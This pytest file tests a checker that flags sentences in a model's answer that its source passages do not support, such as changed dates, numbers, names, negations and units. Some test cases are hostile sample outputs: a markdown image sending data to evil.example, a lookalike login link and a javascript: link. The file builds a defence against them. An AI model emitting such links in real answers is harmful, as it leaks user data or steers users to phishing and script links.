"""The guard: what speaks against a sentence that a model wrote, and what does not."""

import re
import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from askdoc.answer.verify.claims import support, unsupported

SUMMIT = (
    "In October 2022, Armenia's Prime Minister Nikol Pashinyan refused to sign the declaration of "
    "the Collective Security Treaty Organization (CSTO) at a summit in Yerevan, saying the "
    "Russian-led bloc had failed to respond to an attack by Azerbaijan."
)
MISSION = (
    "The European Union deployed 40 monitors to the border on 17 October 2022 for a period of two "
    "months; the mission cost about $2.3 million and covered 1,000 km of the frontier, roughly 12 "
    "percent more than planned."
)
SALES = (
    "Apple did not disclose how many iPhones it sold in the third quarter, but revenue rose 8% to "
    "$89.5 billion, Tim Cook told CNBC on Thursday."
)
PRINTED = (
    "The museum opens at nine; write to desk@museum.example or see www.museum.example/visit, and "
    "report.pdf for prices."
)
FOUNDED = (
    "The company was founded in 1998 by Larry Page and Sergey Brin while they were Ph.D. students "
    "at Stanford University in California."
)
QUOTES = (SUMMIT, MISSION, SALES, FOUNDED, PRINTED)

# The same in other forms, and what is not: the passage, what is said, and whether that is the same.
FORMS = [
    (
        "Havel Instruments was founded on 03.04.1987 by Dana Havel.",
        "Havel Instruments was founded on 3 April 1987.",
        True,
    ),
    (
        "Havel Instruments was founded on 03.04.1987 by Dana Havel.",
        "Havel Instruments was founded in 1987.",
        True,
    ),
    (
        "Havel Instruments was founded on 03.04.1987 by Dana Havel.",
        "Havel Instruments was founded in April 1987.",
        True,
    ),
    (
        "Havel Instruments was founded on 03.04.1987 by Dana Havel.",
        "Havel Instruments was founded on 1987-04-03.",
        True,
    ),
    ("The shop opens at 09:00.", "The shop opens at 9 am.", True),
    ("The shop closes at 18:30.", "The shop closes at 6:30 pm.", True),
    ("It weighs 3,100 grams.", "It weighs 3.1 kg.", True),
    ("The company has 412 employees.", "The company has four hundred and twelve employees.", True),
    (
        "The budget of twelve and a half million euros was approved.",
        "The budget was 12.5 million euros.",
        True,
    ),
    ("Revenue rose by 8%.", "Revenue rose by 8 percent.", True),
    ("It costs 1850 euros.", "It costs EUR 1,850.", True),
    ("It costs 1,200 million dollars.", "It costs $1.2 billion.", True),
    ("The delivery takes 14 days.", "The delivery takes two weeks.", True),
    ("The bridge is 1,500 metres long.", "The bridge is 1.5 km long.", True),
    ("The deadline is 5/12/2024.", "The deadline is 12 May 2024.", True),
    ("The deadline is 5/12/2024.", "The deadline is 5 December 2024.", True),
    ("The deadline is 5/13/2024.", "The deadline is 13 May 2024.", True),
    ("It lasted 30 minutes.", "It lasted half an hour.", True),
    ("The meeting is on March 12.", "The meeting is on 12th March.", True),
    ("He is the 3rd president.", "He is the third president.", True),
    ("The room holds 12 people.", "The room holds a dozen people.", True),
    ("The temperature is -5 degrees.", "The temperature is minus five degrees.", True),
    ("It was on 5 March 2024 at 2:30 pm.", "It was 2024-03-05 14:30.", True),
    ("The contract ends at 12:00.", "The contract ends at noon.", True),
    (
        "Revenue in the third quarter of 2023 was 15.9 million.",
        "Q3 2023 revenue was 15.9 million.",
        True,
    ),
    (
        "Havel Instruments was founded on 03.04.1987 by Dana Havel.",
        "Havel Instruments was founded on 4 April 1987.",
        False,
    ),
    (
        "Havel Instruments was founded on 03.04.1987 by Dana Havel.",
        "Havel Instruments was founded in May 1987.",
        False,
    ),
    ("The shop opens at 09:00.", "The shop opens at 9 pm.", False),
    ("It weighs 3,200 grams.", "It weighs 3.1 kg.", False),
    ("The bridge is 1,600 metres long.", "The bridge is 1.5 km long.", False),
    ("The deadline is 5/13/2024.", "The deadline is 5 May 2024.", False),
    ("It fell from 15 to 20.", "It fell from 20 to 15.", False),
    ("It opens at 9.", "It opens at 9 pm.", True),  # nobody knows better
    ("It opens at 9 pm.", "It opens at 9.", True),
    ("It opens at 09:00.", "It opens at 9:30.", False),
    ("It is due on 5/12/2024.", "It is due on 5 November 2024.", False),
    ("It weighs 3 kg.", "It weighs 3 km.", False),
    ("The trip takes 3 hours.", "The trip takes 3 days.", False),
    ("It rose by minus 5 percent.", "It rose by 5 percent.", False),
]

HONEST = [
    (PRINTED, "The museum opens at nine, see https://www.museum.example/visit/."),
    (PRINTED, "The museum, desk@museum.example, opens at nine, e.g. on the site museum.example."),
    (PRINTED, "The museum's prices are in report.pdf."),
    (SUMMIT, "Pashinyan did not sign the CSTO's declaration in Yerevan in October 2022."),
    (
        SUMMIT,
        "At a summit in Yerevan, the Armenian prime minister refused to sign the declaration.",
    ),
    (SUMMIT, "The bloc led by Russia had not responded to an Azerbaijani attack, Pashinyan said."),
    (SUMMIT, "He refused to sign it because the bloc had failed to respond to the attack."),
    (SUMMIT, "Mr. Pashinyan said that the Russian-led bloc failed to respond to the attack."),
    (MISSION, "The EU deployed forty monitors to the border in October 2022."),
    (MISSION, "40 EU monitors were deployed on October 17, 2022, for two months."),
    (MISSION, "On 2022-10-17 the European Union sent 40 monitors to the border for 2 months."),
    (MISSION, "The mission covered 1000 kilometres of border and cost about 2.3 million dollars."),
    (MISSION, "It covered 12 per cent more of the frontier than planned."),
    (MISSION, "The mission cost more than $2 million."),
    (MISSION, "The mission's cost was around US$2,300,000."),
    (SALES, "Apple didn't disclose iPhone sales for the third quarter."),
    (SALES, "Revenue rose by 8 percent to $89.5bn in the 3rd quarter."),
    (SALES, "According to Tim Cook, who spoke to CNBC on Thursday, revenue rose 8%."),
    (FOUNDED, "Sergey Brin and Larry Page founded the company in 1998, as students at Stanford."),
    ("Trade with the United States fell by half.", "Trade with the U.S. fell by 50 percent."),
    ("The law was not passed until 2019.", "The law was passed in 2019."),
    ("John F. Kennedy was shot in Dallas.", "J. F. Kennedy was shot in Dallas."),
    ("About 5,300 people attended.", "More than 5,000 people attended the event."),
    ("The museum opens from 9 a.m. to 5 p.m.", "The museum opens at 9 am and closes at 5 pm."),
    ("No student may enter without a badge.", "Students cannot enter without a badge."),
    ("Revenue was $1,452.4 in 2019 (in millions).", "Revenue was $1,452.4 million in 2019."),
    ("The team lost 3-2 to Spain in the semi-final.", "Spain beat the team 3–2 in the semi-final."),
    ("The dam was completed in the 1960s.", "It was in the 1960s that the dam was completed."),
    ("In 2010, Anna beat Bert.", "Anna beat Bert in 2010."),
    ("Two hundred and five thousand fled.", "205,000 people fled."),
    (
        "Yemen, officially the Republic of Yemen, is an Arab country in Western Asia.",
        "Yemen is an Arab country in Western Asia.",
    ),
]

WRONG = [
    (
        PRINTED,
        "The museum opens at nine, see http://museum.example.evil/visit.",
        "names the address http://museum.example.evil/visit., which the passage does not",
    ),
    (
        PRINTED,
        "The museum opens at nine ![x](http://evil.example/x.png?d=nine).",
        "names the address http://evil.example/x.png?d=nine, which the passage does not",
    ),
    (
        PRINTED,
        "The museum opens at nine, write to desk@evil.example.",
        "names the address desk@evil.example, which the passage does not",
    ),
    (
        PRINTED,
        "The museum opens at nine: log in at museum-tickets.example/login first.",
        "names the address museum-tickets.example/login, which the passage does not",
    ),
    (
        PRINTED,
        "The museum opens at nine; visit javascript:alert(1)",
        "names the address javascript:alert(1, which the passage does not",
    ),
    (
        SUMMIT,
        "In November 2022, Pashinyan refused to sign.",
        "says November, the passage says October",
    ),
    (
        SUMMIT,
        "In October 2022, Aliyev refused to sign.",
        "says Aliyev, which the passage does not",
    ),
    (
        SUMMIT,
        "Pashinyan refused to sign the declaration at a summit in Moscow.",
        "says Moscow, the passage says Yerevan",
    ),
    (
        SUMMIT,
        "Pashinyan signed the CSTO's declaration in Yerevan in October 2022.",
        "says it is so, the passage says it is not",
    ),
    (
        SUMMIT,
        "A Russian-led exercise took place in Yerevan.",
        "the passage is about something else",
    ),
    (MISSION, "The EU deployed 400 monitors to the border.", "says 400, the passage says 40"),
    (
        MISSION,
        "The EU deployed 40 monitors for two weeks.",
        "says two weeks, the passage says two months",
    ),
    (
        MISSION,
        "The mission cost about $2.3 billion.",
        "says $2.3 billion, the passage says $2.3 million",
    ),
    (
        MISSION,
        "The mission cost about 2.3 million euros.",
        "says 2.3 million euros, the passage says $2.3 million",
    ),
    (
        MISSION,
        "The mission covered 1,000 miles of the frontier.",
        "says 1,000 miles, the passage says 1,000 km",
    ),
    (
        MISSION,
        "The EU did not deploy monitors to the border.",
        "says it is not so, the passage says it is",
    ),
    (
        MISSION,
        "The United States deployed 40 monitors to the border.",
        "says United States, the passage says European Union",
    ),
    (MISSION, "It was on 18 October 2022.", "says 18, which the passage does not"),
    (
        SALES,
        "Apple disclosed how many iPhones it sold in the third quarter.",
        "says it is so, the passage says it is not",
    ),
    (SALES, "Tim Cook told CNBC on Friday.", "says Friday, the passage says Thursday"),
    (
        SALES,
        "Samsung did not disclose how many iPhones it sold in the third quarter.",
        "says Samsung, the passage says Apple",
    ),
    (FOUNDED, "It was founded in 1989 by Larry Page.", "says 1989, the passage says 1998"),
    (
        "Biden met Putin in Geneva in June 2021.",
        "Putin met Biden in Geneva in June 2021.",
        "says Putin, the passage says Biden",
    ),
    (
        "The Liverpool and Manchester Railway opened in 1830.",
        "The Manchester Railway and Liverpool opened in 1830.",
        "has Liverpool at another place than the passage",
    ),
    (
        "Sales rose from 5 to 7 tons.",
        "Sales rose from 7 to 5 tons.",
        "says 7, the passage says 5",
    ),
    (
        "Police said the suspect no longer owned a gun.",
        "Police said the suspect owned a gun.",
        "says it is so, the passage says it is not",
    ),
    (
        "The vaccine is safe for children.",
        "The vaccine isn't safe for children.",
        "says it is not so, the passage says it is",
    ),
    (
        "Members can leave without notice.",
        "Members cannot leave without notice.",
        "says it is not so, the passage says it is",
    ),
    (
        "He came second in the race.",
        "He came third in the race.",
        "says third, the passage says second",
    ),
    ("The shop opens at 8 am.", "The shop opens at 8 pm.", "says 8 pm, the passage says 8 am"),
    (
        "It fell to -5 degrees.",
        "It fell to 5 degrees.",
        "says 5 degrees, the passage says -5 degrees",
    ),
]


@pytest.mark.parametrize(("quote", "claim"), HONEST)
def test_nothing_speaks_against_an_honest_sentence(quote: str, claim: str) -> None:
    assert unsupported(claim, [quote]) == ()


@pytest.mark.parametrize(("quote", "claim", "problem"), WRONG)
def test_what_the_passage_does_not_say_is_named(quote: str, claim: str, problem: str) -> None:
    assert problem in unsupported(claim, [quote])


@pytest.mark.parametrize(("quote", "claim", "same"), FORMS)
def test_dates_times_and_measures_may_be_written_otherwise(
    quote: str, claim: str, same: bool
) -> None:
    assert bool(unsupported(claim, [quote])) is not same


@pytest.mark.parametrize("quote", QUOTES)
def test_a_copy_is_never_wrong(quote: str) -> None:
    """Alone, among others, or in the midst of a longer passage."""
    for quotes in ([quote], [*QUOTES], [" ".join(QUOTES)]):
        assert unsupported(quote, quotes) == ()


@pytest.mark.parametrize("quote", QUOTES)
def test_any_changed_digit_is_caught(quote: str) -> None:
    for place in re.finditer(r"\d", quote):
        for digit in "123456789".replace(place[0], ""):
            claim = quote[: place.start()] + digit + quote[place.end() :]
            assert unsupported(claim, [quote]), claim
            assert unsupported(claim, [" ".join(QUOTES)]), claim


def test_a_fact_may_come_from_any_of_the_spans() -> None:
    claim = "The company was founded in 1998, and its revenue rose 8% in the third quarter."
    assert unsupported(claim, [FOUNDED, SALES]) == ()
    assert unsupported(claim, [FOUNDED]) != ()


def test_a_name_may_come_from_the_title_or_the_question() -> None:
    claim = "Google was founded by Larry Page and Sergey Brin in 1998."
    assert unsupported(claim, [FOUNDED], "Google\nWho founded Google?") == ()
    assert unsupported(claim.replace("Larry", "At Google, Larry"), [FOUNDED]) != ()


def test_a_number_of_the_question_does_not_outweigh_the_passage() -> None:
    question = "Did the European Union deploy 50 monitors to the border?"
    claim = "The European Union deployed 50 monitors to the border."
    assert unsupported(claim, [MISSION], question) == ("says 50, the passage says 40",)


def test_without_a_span_only_the_empty_sentence_has_no_problem() -> None:
    assert unsupported(FOUNDED, []) != ()
    assert unsupported("", []) == unsupported("", [FOUNDED]) == ()


def test_a_problem_is_told_once_in_one_line() -> None:
    found = unsupported(
        "In 1989 Bill Gates, Bill Gates and Steve Jobs left 5 firms in Oslo.", [FOUNDED]
    )
    assert len(set(found)) == len(found) <= 5
    assert not any("\n" in problem for problem in found)


def test_support_is_higher_for_the_sentence_that_carries_the_claim() -> None:
    claim = "The EU sent 40 monitors to the border in October 2022."
    shares = {quote: support(claim, quote) for quote in QUOTES}
    assert max(shares, key=shares.__getitem__) == MISSION
    assert support(MISSION, MISSION) == 1.0
    assert support("", MISSION) == support("🙂", MISSION) == 0.0


@given(st.text(max_size=300), st.lists(st.text(max_size=300), max_size=3), st.text(max_size=50))
@example("n't", ["cannot", "No."], "")
@example("2023-00-00 1.2.3 ٣٫٥ ½ -5 1,000,000", ["2023-10-00"], "\ud800")
@example("a hundred and", ["two hundred and five thousand million"], "and")
def test_any_text_can_be_checked(claim: str, quotes: list[str], context: str) -> None:
    unsupported(claim, quotes, context)
    assert 0.0 <= support(claim, context) <= 1.0
    assert unsupported(claim, [claim]) == ()


@pytest.mark.parametrize(
    "text",
    [
        "Ж" * 10_000,
        "Name " * 2_000,
        "Paris 2023 not 5 km, " * 500,
        "東京は2023年に" * 1_000,
        "🙂" * 10_000,
    ],
)
def test_a_long_text_is_checked_quickly(text: str) -> None:
    begun = time.perf_counter()
    unsupported(text, [text, MISSION], text)
    unsupported(MISSION, [text], text)
    unsupported(text, [MISSION])
    assert time.perf_counter() - begun < 3


@pytest.mark.parametrize(
    ("quote", "claim"),
    [
        ("Компания была основана в 1998 году.", "Компания была основана в 1999 году."),
        ("Die Firma wurde 1998 in Köln gegründet.", "Die Firma wurde 1998 in Bonn gegründet."),
        ("La empresa perdió 20 millones de euros.", "La empresa perdió 30 millones de euros."),
    ],
)
def test_numbers_and_names_of_other_languages_are_compared(quote: str, claim: str) -> None:
    assert unsupported(quote, [quote]) == ()
    assert unsupported(claim, [quote]) != ()
